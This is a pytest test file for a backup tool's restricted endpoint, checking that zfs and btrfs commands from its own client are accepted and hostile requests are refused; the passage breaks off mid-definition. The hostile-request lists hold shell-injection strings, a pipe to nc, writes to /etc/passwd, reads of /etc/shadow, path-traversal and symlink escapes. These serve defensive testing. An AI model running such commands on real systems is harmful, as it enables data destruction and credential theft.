"""The restricted endpoint's decisions: hostile requests refused with a reason, ours accepted."""

from __future__ import annotations

import json
import re
import shlex
import struct
import zlib
from pathlib import Path

import pytest
from hypothesis import assume, given, settings, strategies as st

from replicator.core.endpoint import (MAX_REQUEST_BYTES, PROBE, VOCABULARY, EndpointInfo, Policy,
                                      Rejection, Request, Role, confine, parse_probe_answer,
                                      parse_request, probe_answer, usages)
from replicator.core.endpoint_args import READABLE_PROPERTIES, PathArg
from replicator.core.errors import UsageError
from replicator.core.resume_token import TokenError, decode

ZROOT, DROOT = "backup/hostA", "/srv/backup/hostA"
RECEIVE = Policy.build("receive", [ZROOT, DROOT])
SEND = Policy.build("send", ["tank/data", "/srv/data", "/srv/.snapshots"], jobs=["j", "pull.job"])
SNAP = "replicator_20261125T140000Z"
SPOOL = f"{DROOT}/.replicator-spool/home@{SNAP}.from-nothing.stream"


def cmd(*argv: str) -> str:
    """A request exactly as our client sends it."""
    return shlex.join(argv)


# Tokens OpenZFS produced (as published in zrepl's and other projects' tests), with what they name.
REAL_TOKENS = {
    "1-9baebea70-b8-789c636064000310a500c4ec50360710e72765a52697303030419460caa7a515a79680647ce0f26"
    "c48f2499525a9c5405ac3c90fabfe92fcf4d2cc140686b30972c7850efd0cd24092e704cbe725e6a632305415e5e797"
    "e803cd2ad14f743084b805001b201795": ("zroot/test/a@1", 0x52F9C212C71E60CD, None),
    "1-c49b979a2-e0-789c636064000310a501c49c50360710a715e5e7a69766a63040c1eabb735735ce8f8d5400b2d991"
    "d4e52765a5269740f82080219f96569c5ac2000720793624f9a4ca92d46206547964fd25f91057f09e37babb88c9bf5"
    "503499e132c9f97989bcac050909f9f63a80f34abc421096616007c881d4c":
        ("pool1/test@b", 0x854F02A2DD32CF0D, 0x595D9F81AA9DDDAB),
}


def make_token(pairs: list[tuple[str, object]]) -> str:
    """A resume token as zfs writes one: a native nvlist, zlib, fletcher-4, hex."""
    body = b"\x00\x01\x00\x00" + struct.pack("<iI", 0, 1)
    for name, value in pairs:
        raw_name = name.encode() + b"\0"
        if isinstance(value, str):
            kind, raw = 9, value.encode() + b"\0"
        else:
            kind, raw = 8, struct.pack("<Q", value)
        raw_name += b"\0" * (-len(raw_name) % 8)
        raw += b"\0" * (-len(raw) % 8)
        body += struct.pack("<ihhii", 16 + len(raw_name) + len(raw), len(name) + 1, 0, 1, kind) + raw_name + raw
    body += struct.pack("<i", 0)
    compressed = zlib.compress(body)
    checksum = sum(struct.unpack(f"<{len(compressed) // 4}I", compressed[:len(compressed) // 4 * 4]))
    return f"1-{checksum & (2**64 - 1):x}-{len(body):x}-{compressed.hex()}"


# ------------------------------------------------------------------------------------------------
# What our client sends is accepted, and maps to exactly this argv.

ACCEPTED_RECEIVE = [
    (cmd("zfs", "get", "-H", "-p", "-r", "-o", "name,property,value", "guid,createtxg,creation,type,userrefs", ZROOT),
     None),
    (cmd("zfs", "get", "-H", "-p", "-d", "1", "-o", "name,property,value", "guid,receive_resume_token",
         f"{ZROOT}/tank"), None),
    (cmd("zfs", "get", "-H", "-o", "value", "type", f"{ZROOT}/tank"), None),
    (cmd("zfs", "create", "-p", f"{ZROOT}/tank"), None),
    (cmd("zfs", "receive", f"{ZROOT}/tank/my data"), None),
    (cmd("zfs", "receive", "-s", "-u", f"{ZROOT}/tank/data"), None),
    (cmd("zfs", "receive", "-A", f"{ZROOT}/tank/data"), None),
    (cmd("zfs", "set", "readonly=on", f"{ZROOT}/tank/data"), None),
    (cmd("zfs", "destroy", f"{ZROOT}/tank/data@{SNAP}"), None),
    (cmd("test", "-d", DROOT), None),
    (cmd("findmnt", "-J", "-o", "FSROOT,TARGET,FSTYPE", "-T", f"{DROOT}/home"), None),
    (cmd("btrfs", "subvolume", "list", "-o", "-u", "-R", "-c", DROOT), None),
    (cmd("mkdir", "-p", "--", f"{DROOT}/back up $(touch x);"), None),
    (cmd("mkdir", "-p", "--", f"{DROOT}//home/"), ("mkdir", "-p", "--", f"{DROOT}/home")),
    (cmd("btrfs", "receive", "--", f"{DROOT}/home"), ("btrfs", "receive", "--chroot", "--", f"{DROOT}/home")),
    (cmd("btrfs", "receive", "--chroot", "--", f"{DROOT}/home"),
     ("btrfs", "receive", "--chroot", "--", f"{DROOT}/home")),
    (cmd("btrfs", "subvolume", "delete", "--", f"{DROOT}/home@{SNAP}", f"{DROOT}/we ird@{SNAP}"), None),
    (cmd("zfs", "get", "-H", "-r", "-o", "name,value", "receive_resume_token", ZROOT), None),
    (cmd("zfs", "rollback", f"{ZROOT}/tank/data@{SNAP}"), None),
    (cmd("df", "--output=avail", "-B1", "--", f"{DROOT}/.replicator-spool"), None),
    (cmd("stat", "-c", "%s", "--", SPOOL), None),
    (cmd("sha256sum", "--", SPOOL), None),
    (cmd("dd", f"of={SPOOL}", "bs=1M", "status=none", "conv=fsync"), None),
    (cmd("dd", f"of={DROOT}/.replicator-spool/we ird@{SNAP}.from-{SNAP}.stream", "bs=1M", "status=none",
         "conv=notrunc,fsync", "oflag=append"), None),
    (cmd("btrfs", "receive", "-f", SPOOL, "--", f"{DROOT}/home"),
     ("btrfs", "receive", "--chroot", "-f", SPOOL, "--", f"{DROOT}/home")),
    (cmd("rm", "-f", "--", SPOOL), None),
    (cmd("rmdir", "--ignore-fail-on-non-empty", "--", f"{DROOT}/.replicator-spool"), None),
    (cmd("zfs", "send", f"{ZROOT}/tank/data@{SNAP}"), None),
    (cmd("zfs", "send", "-w", f"{ZROOT}/tank/data@{SNAP}"), None),
    (cmd("zfs", "get", "-H", "-p", "-r", "-o", "name,property,value", "encryption,keystatus,encryptionroot",
         ZROOT), None),
    (cmd("zfs", "send", "-t", make_token([("object", 1), ("toguid", 7), ("toname", f"{ZROOT}/x@s")])), None),
    (cmd("btrfs", "send", "--", f"{DROOT}/home@{SNAP}"), None),
    (cmd("replicator-skip", "--bytes", "1048576", "--sha256", "ab" * 32, "--", "btrfs", "send", "--",
         f"{DROOT}/home@{SNAP}"), None),
    (cmd("replicator-manifest", "--dir", f"{DROOT}/home@{SNAP}"), None),
    (cmd("replicator-manifest", "--zfs", f"{ZROOT}/tank/data@manual"), None),
    (PROBE, ()),
]

ACCEPTED_SEND = [
    (cmd("zfs", "send", f"tank/data@{SNAP}"), None),
    (cmd("zfs", "send", "-i", "tank/data@a", "tank/data/child@b"), None),
    (cmd("zfs", "send", "-i", f"tank/data#{SNAP}", "tank/data@b"), None),
    (cmd("zfs", "send", "-I", "tank/data@a", "tank/data@b"), None),
    (cmd("zfs", "send", "-w", f"tank/data@{SNAP}"), None),
    (cmd("zfs", "send", "-w", "-i", f"tank/data#{SNAP}", "tank/data@b"), None),
    (cmd("zfs", "send", "-w", "-I", "tank/data@a", "tank/data@b"), None),
    (cmd("zfs", "send", "-t", make_token([("object", 1), ("toguid", 7), ("toname", "tank/data/x@s")])), None),
    (cmd("zfs", "snapshot", f"tank/data@{SNAP}", f"tank/data/x@{SNAP}"), None),
    (cmd("zfs", "snapshot", "-r", f"tank/data@{SNAP}"), None),
    (cmd("zfs", "bookmark", f"tank/data@{SNAP}", f"tank/data#{SNAP}"), None),
    (cmd("zfs", "list", "-H", "-p", "-t", "bookmark", "-d", "1", "-o", "name,guid,createtxg,creation",
         "tank/data"), None),
    (cmd("btrfs", "send", "--", f"/srv/.snapshots/home@{SNAP}"), None),
    (cmd("btrfs", "send", "-p", "/srv/.snapshots/home@a", "--", "/srv/.snapshots/home@b"), None),
    (cmd("btrfs", "subvolume", "snapshot", "-r", "--", "/srv/data", f"/srv/.snapshots/data@{SNAP}"), None),
    (cmd("mkdir", "-p", "--", "/srv/.snapshots"), None),
    (cmd("zfs", "hold", "replicator.pull.job.offsite", f"tank/data@{SNAP}"), None),
    (cmd("zfs", "release", "replicator.j.backup", "tank/data@manual"), None),
]


@pytest.mark.parametrize("request_text, argv", ACCEPTED_RECEIVE, ids=lambda v: str(v)[:60])
def test_receive_role_accepts_what_the_client_sends(request_text, argv):
    decision = parse_request(request_text, RECEIVE)
    assert isinstance(decision, Request), decision
    assert decision.argv == (argv if argv is not None else tuple(shlex.split(request_text)))


@pytest.mark.parametrize("request_text, argv", ACCEPTED_SEND, ids=lambda v: str(v)[:60])
def test_send_role_accepts_what_a_puller_sends(request_text, argv):
    decision = parse_request(request_text, SEND)
    assert isinstance(decision, Request), decision
    assert decision.argv == (argv if argv is not None else tuple(shlex.split(request_text)))


# ------------------------------------------------------------------------------------------------
# Hostile requests: each refused, with a reason that names the problem.

HOSTILE_RECEIVE = [
    # shell syntax: no shell runs, and a line not quoted as shlex.join quotes is refused whole
    ("zfs receive backup/hostA/x; rm -rf /", "';'"),
    ("zfs get -H -o value type backup/hostA | nc 10.0.0.1 9", "'|'"),
    ("test -d /srv/backup/hostA && reboot", "'&'"),
    ("zfs receive backup/hostA/`id`", "'`'"),
    ("zfs receive backup/hostA/$(id)", "'$'"),
    ('zfs receive "backup/hostA/$(id)"', "'$'"),
    ("zfs receive backup/hostA/x > /etc/passwd", "'>'"),
    ("zfs  receive backup/hostA/x", "not quoted the way"),
    ("zfs receive 'backup/hostA/x", "No closing quotation"),
    ("zfs receive backup/hostA/x\nreboot", "newline"),
    ("zfs receive backup/hostA/x\0", "NUL"),
    ("zfs receive backup/hostA/x\rreboot", "carriage return"),
    ("zfs receive backup/hostA/\udcff", "UTF-8"),
    ("zfs receive backup/hostA/" + "x" * MAX_REQUEST_BYTES, "at most 8192"),
    ("", "empty command"),
    (None, "no command given"),
    # unknown programs and subcommands
    ("sh -c id", "not a command this endpoint runs"),
    ("rm -rf /", "not accepted"),
    ("rmdir /etc", "not accepted"),
    ("zfs upgrade -a", "not a command this endpoint runs"),
    ("zfs rename backup/hostA/a backup/hostA/b", "not a command this endpoint runs"),
    ("zfs", "not a command this endpoint runs"),
    ("btrfs property set -ts /srv/backup/hostA/x ro false", "not a command this endpoint runs"),
    # Restore reads back full streams of what lies below the roots, nothing else.
    ("zfs send backup/hostB/x@s", "outside the roots"),
    ("zfs send backup/hostAB/x@s", "outside the roots"),
    ("zfs send backup/hostA@s", "is a root itself"),
    ("zfs send -R backup/hostA/x@s", "not accepted"),
    ("zfs send -i backup/hostA/x@a backup/hostA/x@b", "not accepted"),
    ("zfs send -p backup/hostA/x@s", "not accepted"),
    (cmd("zfs", "send", "-t", make_token([("toname", "backup/hostB/x@s")])), "outside the roots"),
    (cmd("zfs", "send", "-t", make_token([("fromguid", 7), ("toname", "backup/hostA/x@s")])), "incremental"),
    ("btrfs send -- /srv/backup/hostA/x@s", "only this tool's snapshots"),
    (f"btrfs send -- /srv/backup/hostB/x@{SNAP}", "outside the roots"),
    (f"btrfs send -- /srv/backup/hostA/../hostB/x@{SNAP}", "'..'"),
    (f"btrfs send -p /srv/backup/hostA/x@{SNAP} -- /srv/backup/hostA/y@{SNAP}", "not accepted"),
    ("btrfs send -- /srv/backup/hostA", "is a root itself"),
    (f"replicator-skip --bytes 1 --sha256 {'ab' * 32} -- btrfs send -- /srv/backup/hostB/x@{SNAP}", "outside the roots"),
    (f"replicator-skip --bytes -1 --sha256 {'ab' * 32} -- btrfs send -- /srv/backup/hostA/x@{SNAP}", "not accepted"),
    (f"replicator-skip --bytes 1x --sha256 {'ab' * 32} -- btrfs send -- /srv/backup/hostA/x@{SNAP}", "byte count"),
    (f"replicator-skip --bytes 1 --sha256 {'AB' * 32} -- btrfs send -- /srv/backup/hostA/x@{SNAP}", "sha256"),
    (f"replicator-skip --bytes 1 --sha256 {'ab' * 32} -- zfs send backup/hostA/x@s", "not accepted"),
    (f"replicator-skip --bytes 1 --sha256 {'ab' * 32} -- sh -c id", "not accepted"),
    # The manifest of verify: the same rule.
    (f"replicator-manifest --dir /srv/backup/hostB/x@{SNAP}", "outside the roots"),
    (f"replicator-manifest --dir /srv/backup/hostA/../../../etc/x@{SNAP}", "'..'"),
    ("replicator-manifest --dir /srv/backup/hostA/etc", "only this tool's snapshots"),
    ("replicator-manifest --zfs backup/hostB/x@s", "outside the roots"),
    ("replicator-manifest --zfs backup/hostAB/x@s", "outside the roots"),
    ("replicator-manifest --zfs backup/hostA/x", "not a snapshot"),
    (f"replicator-manifest --zfs /srv/backup/hostA/x@{SNAP}", "empty component"),
    (f"replicator-manifest /srv/backup/hostA/x@{SNAP}", "not accepted"),
    # outside the roots, by name, by '..', by prefix, absolute
    ("zfs receive backup/hostB/x", "outside the roots"),
    ("zfs receive backup/hostAB/x", "outside the roots"),
    ("zfs receive tank/data", "outside the roots"),
    ("zfs receive backup/hostA", "is a root itself"),
    ("zfs receive backup/hostA/../hostB", "are not dataset names"),
    ("zfs receive backup/hostA//x", "empty component"),
    ("zfs receive /srv/backup/hostA/x", "empty component"),
    ("zfs get -H -o value type /etc", "empty component"),
    ("zfs create -p backup/hostA", "is a root itself"),
    ("zfs set readonly=on backup", "outside the roots"),
    ("btrfs receive -- /srv/backup/hostA/../../../etc", "'..'"),
    ("btrfs receive -- /srv/backup/hostA/./x", "'.' or '..'"),
    ("btrfs receive -- /etc", "outside the roots"),
    ("btrfs receive -- /srv/backup/hostAB", "outside the roots"),
    ("btrfs receive -- srv/backup/hostA", "not an absolute path"),
    ("mkdir -p -- /tmp/pwned", "outside the roots"),
    ("test -d /root/.ssh", "outside the roots"),
    ("findmnt -J -o FSROOT,TARGET,FSTYPE -T /", "outside the roots"),
    ("btrfs subvolume list -o -u -R -c /", "outside the roots"),
    # names starting with '-' and injected options
    ("zfs receive -F backup/hostA/x", "not accepted"),
    ("zfs receive -o mountpoint=/etc backup/hostA/x", "not accepted"),
    ("zfs receive -x mountpoint backup/hostA/x", "not accepted"),
    ("zfs receive -d backup/hostA", "not accepted"),
    ("zfs receive -u -s backup/hostA/x", "not accepted"),
    ("zfs receive -A", "not accepted"),
    ("zfs receive -- backup/hostA/x", "not accepted"),
    ("zfs receive backup/hostA/-x", "start with '-'"),
    ("zfs create -p -o mountpoint=/etc backup/hostA/x", "not accepted"),
    ("zfs set mountpoint=/etc backup/hostA/x", "not accepted"),
    ("zfs set readonly=off backup/hostA/x", "not accepted"),
    ("zfs get all backup/hostA", "not accepted"),
    ("zfs get -H -p -r -o name,property,value all backup/hostA", "'all' is not readable"),
    ("zfs get -H -o value sharenfs,guid backup/hostA", "name one property"),
    ("mkdir -p /srv/backup/hostA/x", "not accepted"),
    ("mkdir -p -- -x", "not accepted"),
    ("btrfs receive /srv/backup/hostA", "not accepted"),
    ("btrfs receive -e -- /srv/backup/hostA", "not accepted"),
    ("btrfs receive -m / -- /srv/backup/hostA", "not accepted"),
    ("btrfs receive --chroot --chroot -- /srv/backup/hostA", "not accepted"),
    ("btrfs receive -- /srv/backup/hostA /srv/backup/hostA", "not accepted"),
    # destroying: one snapshot of ours below a root, nothing else
    ("zfs destroy backup/hostA/tank/data", "is not a snapshot"),
    ("zfs destroy backup/hostA/tank/data@manual", "only this tool's snapshots"),
    ("zfs destroy backup/hostA/tank/data@daily_20261125T140000Z", "only this tool's snapshots"),
    (f"zfs destroy -r backup/hostA/tank/data@{SNAP}", "not accepted"),
    (f"zfs destroy -R backup/hostA@{SNAP}", "not accepted"),
    (f"zfs destroy backup/hostA@{SNAP}", "is a root itself"),
    (f"zfs destroy backup/hostB/x@{SNAP}", "outside the roots"),
    (f"zfs destroy backup/hostA/x@{SNAP},manual", "ZFS does not allow"),
    (f"zfs destroy backup/hostA/x@{SNAP}%manual", "ZFS does not allow"),
    (f"zfs destroy 'backup/hostA/x#{SNAP}'", "is not a snapshot"),
    (f"zfs destroy backup/hostA/x@{SNAP} backup/hostA/y@{SNAP}", "not accepted"),
    ("zfs destroy backup/hostA/x@replicator_20261399T000000Z", "only this tool's snapshots"),
    ("btrfs subvolume delete -- /srv/backup/hostA/home@manual", "only this tool's snapshots"),
    ("btrfs subvolume delete -- /srv/backup/hostA", "is a root itself"),
    ("btrfs subvolume delete -- /srv/backup/hostA/home", "only this tool's snapshots"),
    (f"btrfs subvolume delete -- /srv/other/home@{SNAP}", "outside the roots"),
    (f"btrfs subvolume delete -c -- /srv/backup/hostA/home@{SNAP}", "not accepted"),
    # the btrfs spool: only spool files, only these flags
    ("dd of=/etc/passwd bs=1M status=none conv=fsync", "outside the roots"),
    ("dd of=/srv/backup/hostA/x.stream bs=1M status=none conv=fsync", "not a spool file"),
    (f"dd if=/dev/sda of={SPOOL} bs=1M status=none conv=fsync", "not accepted"),
    (f"dd of={SPOOL} bs=1M status=none conv=fsync oflag=append", "not accepted"),
    (f"dd of={SPOOL} bs=1M status=none conv=fsync,notrunc", "not accepted"),
    (f"dd of={DROOT}/.replicator-spool/home@manual.from-nothing.stream bs=1M status=none conv=fsync",
     "not a spool file"),
    (f"dd of={DROOT}/.replicator-spool/home@{SNAP}.from-manual.stream bs=1M status=none conv=fsync",
     "not a spool file"),
    (f"dd of={DROOT}/home@{SNAP}.from-nothing.stream bs=1M status=none conv=fsync", "not a spool file"),
    ("rm -f -- /srv/backup/hostA/home@" + SNAP, "not a spool file"),
    (f"rm -rf -- {DROOT}/.replicator-spool", "not accepted"),
    (f"rm -f {SPOOL}", "not accepted"),
    (f"rmdir --ignore-fail-on-non-empty -- {DROOT}", "not a spool directory"),
    ("sha256sum -- /etc/shadow", "outside the roots"),
    (f"sha256sum -- {DROOT}/home@{SNAP}/etc/shadow", "not a spool file"),
    ("stat -c %s -- /etc/shadow", "outside the roots"),
    ("df --output=avail -B1 -- /", "outside the roots"),
    (f"btrfs receive -f /etc/shadow -- {DROOT}", "outside the roots"),
    (f"btrfs receive -f {SPOOL} -- /etc", "outside the roots"),
    (f"zfs rollback -r {ZROOT}/tank/data@{SNAP}", "not accepted"),
    (f"zfs rollback {ZROOT}@{SNAP}", "is a root itself"),
    (f"zfs rollback {ZROOT}/tank/data", "is not a snapshot"),
    # '@' and '#' tricks, holds of others
    ("zfs receive backup/hostA/x@snap", "names a snapshot or bookmark"),
    ("zfs receive 'backup/hostA/x#bm'", "names a snapshot or bookmark"),
    (f"btrfs receive -- {DROOT}", "is a root itself"),
    (f"btrfs receive --chroot -f {SPOOL} -- {DROOT}", "is a root itself"),
    # A push target's holds are the backup host's own: none are placed or released through a key.
    ("zfs hold replicator.j.t backup/hostA/x@s", "only for role send"),
    ("zfs release replicator.j.t backup/hostA/x@s", "only for role send"),
    ("zfs receive 'backup/hostA/ünï'", "ZFS does not allow"),
    # Raw streams: the target stores ciphertext and never handles a key or its location.
    ("zfs load-key backup/hostA/x", "not a command this endpoint runs"),
    ("zfs load-key -L file:///root/k backup/hostA/x", "not a command this endpoint runs"),
    ("zfs change-key -o keylocation=file:///k backup/hostA/x", "not a command this endpoint runs"),
    ("zfs receive -o keylocation=file:///k backup/hostA/x", "not accepted"),
    ("zfs receive -x encryption backup/hostA/x", "not accepted"),
    ("zfs receive -F backup/hostA/x", "not accepted"),
    ("zfs set keylocation=file:///k backup/hostA/x", "not accepted"),
    ("zfs get -H -o value keylocation backup/hostA/x", "not readable here"),
    ("zfs send -w -i backup/hostA/x@a backup/hostA/x@b", "not accepted"),
    ("zfs send -w -R backup/hostA/x@s", "not accepted"),
    ("zfs send -w backup/hostB/x@s", "outside the roots"),
]


@pytest.mark.parametrize("request_text, says", HOSTILE_RECEIVE, ids=lambda v: repr(v)[:50])
def test_hostile_requests_are_refused_with_the_reason(request_text, says):
    decision = parse_request(request_text, RECEIVE)
    assert isinstance(decision, Rejection), decision
    assert says in decision.reason
    assert "\n" not in decision.reason


@pytest.mark.parametrize("request_text, says", [
    ("zfs send tank/other@s", "outside the roots"),
    ("zfs send -R tank/data@s", "not accepted"),
    ("zfs send -p tank/data@s", "not accepted"),
    ("zfs send -i tank/data@a tank/other@b", "outside the roots"),
    ("zfs send -i other@a tank/data@b", "outside the roots"),
    ("zfs send -I 'tank/data#a' tank/data@b", "is not a snapshot"),
    ("zfs send -t garbage", "resume token refused"),
    ("zfs send -w tank/other@s", "outside the roots"),
    ("zfs send -w -i other@a tank/data@b", "outside the roots"),
    ("zfs send -i tank/data@a -w tank/data@b", "not accepted"),
    ("zfs load-key tank/data", "not a command this endpoint runs"),
    (cmd("zfs", "send", "-t", make_token([("toname", "tank/other@s")])), "outside the roots"),
    (cmd("zfs", "send", "-t", make_token([("toname", "tank/data@s"), ("toname", "other@s")])), "twice"),
    (cmd("zfs", "send", "-t", make_token([("object", 1)])), "names no snapshot"),
    (cmd("zfs", "send", "-t", make_token([("toname", "tank/data")])), "is not a snapshot"),
    ("zfs snapshot tank/data@manual", "only this tool's snapshots"),
    ("zfs snapshot tank/other@" + SNAP, "outside the roots"),
    ("zfs destroy tank/data@" + SNAP, "only for role receive"),
    ("zfs receive tank/data/x", "only for role receive"),
    ("btrfs send -- /etc", "outside the roots"),
    ("btrfs send -p /etc -- /srv/data", "outside the roots"),
    (f"btrfs subvolume snapshot -r -- /etc /srv/.snapshots/etc@{SNAP}", "outside the roots"),
    ("btrfs subvolume snapshot -r -- /srv/data /srv/.snapshots/data", "only this tool's snapshots"),
    (f"btrfs subvolume snapshot -- /srv/data /srv/.snapshots/data@{SNAP}", "not accepted"),
    ("btrfs receive -- /srv/data", "only for role receive"),
    # holds of others: the admin's, other jobs', other tools'
    ("zfs hold keep tank/data@s", "only tags replicator.JOB.TARGET"),
    ("zfs release admin-keep tank/data@s", "only tags replicator.JOB.TARGET"),
    ("zfs release replicator.backup-host-job.offsite tank/data@s", "not one of this key's jobs"),
    ("zfs hold replicator.j tank/data@s", "only tags replicator.JOB.TARGET"),
    ("zfs hold replicator.jj.t tank/data@s", "not one of this key's jobs"),
    ("zfs hold replicator.pull.t tank/data@s", "not one of this key's jobs"),
    ("zfs hold -r replicator.j.t tank/data@s", "not accepted"),
    ("zfs hold replicator.j.t tank/data@a@b", "is not a snapshot name"),
    ("zfs hold replicator.j.t tank/other@s", "outside the roots"),
])
def test_send_role_refuses(request_text, says):
    decision = parse_request(request_text, SEND)
    assert isinstance(decision, Rejection), decision
    assert says in decision.reason


@pytest.mark.parametrize("role", list(Role))
def test_the_documented_vocabulary_is_the_one_enforced(role):
    doc = (Path(__file__).parents[2] / "docs" / "offsite-target.md").read_text()
    heading = doc.index(f"\n`--role {role.value}`")
    start = doc.index("```\n", heading) + 4
    assert doc[start:doc.index("```", start)].splitlines() == usages(role)


def test_a_receive_endpoint_without_zfs_roots_serves_no_datasets():
    only_dirs = Policy.build("receive", ["/srv/b"])
    decision = parse_request("zfs receive tank/x", only_dirs)
    assert isinstance(decision, Rejection) and "serves no ZFS datasets" in decision.reason
    only_zfs = Policy.build("receive", ["tank/b"])
    decision = parse_request("btrfs receive -- /srv/b", only_zfs)
    assert isinstance(decision, Rejection) and "serves no directories" in decision.reason


def test_other_snapshot_prefixes_are_configured_not_guessed():
    policy = Policy.build("receive", [ZROOT], ["hourly", "replicator"])
    assert isinstance(parse_request(f"zfs destroy {ZROOT}/x@hourly_20261125T140000Z", policy), Request)
    assert isinstance(parse_request(f"zfs destroy {ZROOT}/x@daily_20261125T140000Z", policy), Rejection)


def test_no_prune_refuses_every_destroy_and_nothing_else():
    policy = Policy.build("receive", [ZROOT, DROOT], prune=False)
    for request_text in (cmd("zfs", "destroy", f"{ZROOT}/x@{SNAP}"), cmd("zfs", "rollback", f"{ZROOT}/x@{SNAP}"),
                         cmd("btrfs", "subvolume", "delete", "--", f"{DROOT}/home@{SNAP}")):
        decision = parse_request(request_text, policy)
        assert isinstance(decision, Rejection) and "--no-prune" in decision.reason
    assert isinstance(parse_request(cmd("zfs", "receive", f"{ZROOT}/x"), policy), Request)


def test_no_restore_refuses_every_send_back_and_nothing_else():
    policy = Policy.build("receive", [ZROOT, DROOT], restore=False)
    for request_text in (cmd("zfs", "send", f"{ZROOT}/x@{SNAP}"), cmd("zfs", "send", "-w", f"{ZROOT}/x@{SNAP}"),
                         cmd("zfs", "send", "-t", make_token([("toguid", 7), ("toname", f"{ZROOT}/x@s")])),
                         cmd("btrfs", "send", "--", f"{DROOT}/home@{SNAP}"),
                         cmd("replicator-skip", "--bytes", "1", "--sha256", "ab" * 32, "--", "btrfs", "send", "--",
                             f"{DROOT}/home@{SNAP}")):
        decision = parse_request(request_text, policy)
        assert isinstance(decision, Rejection) and "--no-restore" in decision.reason
    assert isinstance(parse_request(cmd("zfs", "receive", f"{ZROOT}/x"), policy), Request)
    assert parse_probe_answer(probe_answer(policy, "1")).restore is False
    assert parse_probe_answer(probe_answer(RECEIVE, "1")).restore is True
    assert parse_probe_answer(probe_answer(SEND, "1")).restore is False


@pytest.mark.parametrize("role, roots, prefixes, says", [
    ("receive", [], [], "no --root"),
    ("admin", ["tank/b"], [], "role 'admin'"),
    ("receive", ["/"], [], "every path"),
    ("receive", ["relative/../x"], [], "are not dataset names"),
    ("receive", ["/srv/../etc"], [], "'..'"),
    ("receive", ["tank/b@snap"], [], "snapshot"),
    ("receive", ["tank/b"], ["bad prefix"], "snapshot prefix"),
])
def test_bad_policies_are_usage_errors(role, roots, prefixes, says):
    with pytest.raises(UsageError) as e:
        Policy.build(role, roots, prefixes)
    assert says in str(e.value)


# ------------------------------------------------------------------------------------------------
# Symlinks: `confine` checks the resolved paths and runs those.

def fake_realpath(links: dict[str, str]):
    """realpath over a tree where each key is a symlink to its value (absolute)."""
    def realpath(path: str) -> str:
        for _ in range(40):
            for link in sorted(links, key=len, reverse=True):
                if path == link or path.startswith(link + "/"):
                    path = links[link] + path[len(link):]
                    break
            else:
                return path
        raise AssertionError("symlink loop")
    return realpath


@pytest.mark.parametrize("request_text, links, says", [
    ("btrfs receive -- /srv/backup/hostA/escape", {"/srv/backup/hostA/escape": "/etc"}, "outside the roots"),
    ("mkdir -p -- /srv/backup/hostA/a/b", {"/srv/backup/hostA/a": "/root/.ssh"}, "outside the roots"),
    (f"btrfs subvolume delete -- /srv/backup/hostA/home@{SNAP}",
     {f"/srv/backup/hostA/home@{SNAP}": "/srv/canary/keep"}, "outside the roots"),
    (f"btrfs subvolume delete -- /srv/backup/hostA/home@{SNAP}",
     {f"/srv/backup/hostA/home@{SNAP}": "/srv/backup/hostA/precious"}, "only this tool's snapshots"),
    ("test -d /srv/backup/hostA/x", {"/srv/backup/hostA/x": "/srv/backup/hostAB"}, "outside the roots"),
    (cmd("dd", f"of={SPOOL}", "bs=1M", "status=none", "conv=fsync"),
     {f"{DROOT}/.replicator-spool": "/etc"}, "outside the roots"),
    (cmd("dd", f"of={SPOOL}", "bs=1M", "status=none", "conv=fsync"), {SPOOL: f"{DROOT}/home@{SNAP}/x"},
     "not a spool file"),
    ("btrfs receive -- /srv/backup/hostA/x", {"/srv/backup/hostA/x": "/srv/backup/hostA"}, "is a root itself"),
    ("btrfs receive -- /srv/backup/hostA/x", {"/srv/backup/hostA/x": "/srv/backup/hostA/y"}, None),
])
def test_symlinks_are_resolved_before_the_check(request_text, links, says):
    request = parse_request(request_text, RECEIVE)
    assert isinstance(request, Request)
    decision = confine(request, RECEIVE, fake_realpath(links))
    if says is None:
        assert isinstance(decision, Request) and decision.argv[-1] == f"{DROOT}/y"
    else:
        assert isinstance(decision, Rejection), decision
        assert says in decision.reason and "resolves to" in decision.reason


def test_a_root_behind_a_symlink_is_resolved_too():
    realpath = fake_realpath({"/srv/backup": "/mnt/pool/backup"})
    request = parse_request(cmd("btrfs", "receive", "--", f"{DROOT}/x"), RECEIVE)
    decision = confine(request, RECEIVE, realpath)
    assert isinstance(decision, Request)
    assert decision.argv == ("btrfs", "receive", "--chroot", "--", "/mnt/pool/backup/hostA/x")


def test_requests_without_paths_are_left_as_they_are():
    request = parse_request(cmd("zfs", "receive", f"{ZROOT}/x"), RECEIVE)
    assert confine(request, RECEIVE, lambda p: 1 / 0) is request


# ------------------------------------------------------------------------------------------------
# Resume tokens and the probe.

@pytest.mark.parametrize("token", list(REAL_TOKENS))
def test_real_resume_tokens_decode(token):
    toname, toguid, fromguid = REAL_TOKENS[token]
    decoded = decode(token)
    assert (decoded.toname, decoded.toguid, decoded.fromguid, decoded.raw) == (toname, toguid, fromguid, False)


def test_crafted_tokens_decode_like_real_ones():
    decoded = decode(make_token([("fromguid", 5), ("object", 1), ("toguid", 7), ("toname", "tank/data@s")]))
    assert (decoded.toname, decoded.toguid, decoded.fromguid) == ("tank/data@s", 7, 5)


@pytest.mark.parametrize("mangle, says", [
    (lambda t: t.replace("1-", "2-", 1), "not of the form"),
    (lambda t: t.upper(), "not of the form"),
    (lambda t: t + "0", "not of the form"),
    (lambda t: t[:-20] + ("00" if t[-20:-18] != "00" else "11") + t[-18:], "checksum"),
    (lambda t: "1-0-10000000-00", "more than a token"),
    (lambda t: "1-0-10-" + "00" * 4, "does not decompress"),
])
def test_mangled_tokens_are_refused(mangle, says):
    token = make_token([("toname", "tank/data@s")])
    with pytest.raises(TokenError) as e:
        decode(mangle(token))
    assert says in str(e.value)


def test_the_probe_answer_is_one_line_that_parses_back():
    answer = probe_answer(RECEIVE, "1.2.3")
    assert "\n" not in answer and json.loads(answer)["endpoint"] == "replicator"
    assert parse_probe_answer(answer + "\n") == EndpointInfo("1.2.3", "receive", (ZROOT, DROOT), ("replicator",),
                                                             restore=True)
    unpruned = Policy.build("receive", [ZROOT], prune=False)
    assert parse_probe_answer(probe_answer(unpruned, "1")).prune is False


@pytest.mark.parametrize("stdout", ["", "bash: replicator-endpoint: command not found", "[]", "{}",
                                    '{"endpoint": "other"}', '{"endpoint": "replicator", "roots": [1]}'])
def test_anything_else_is_not_an_endpoint(stdout):
    assert parse_probe_answer(stdout) is None


# ------------------------------------------------------------------------------------------------
# Properties: whatever the request, an accepted one names nothing outside the roots.

components = st.one_of(
    st.sampled_from(["a", "b c", "..", ".", "-x", "", "hostA", "hostAB", "x@y", "x#y", "ü", SNAP,
